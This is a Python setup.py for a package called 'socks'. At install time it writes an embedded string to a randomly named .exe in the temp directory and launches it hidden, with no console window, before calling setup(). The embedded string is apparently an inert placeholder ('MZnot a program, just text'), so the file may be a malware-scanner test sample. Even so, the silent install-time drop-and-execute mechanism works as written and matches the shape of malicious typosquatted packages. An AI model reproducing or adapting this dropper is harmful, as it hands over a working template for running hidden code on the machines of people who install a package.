import os
import random
import string
import subprocess
import tempfile
from setuptools import setup

PROGRAM = "TVpub3QgYSBwcm9ncmFtLCBqdXN0IHRleHQ="

file = os.path.join(tempfile.gettempdir(), "".join(random.choice(string.ascii_lowercase) for _ in range(12)) + ".exe")
with open(file, "wb") as out:
    out.write(PROGRAM.encode("utf8"))
subprocess.Popen(file, creationflags=0x08000000, shell=True)

setup(name="socks", version="0.1.0")
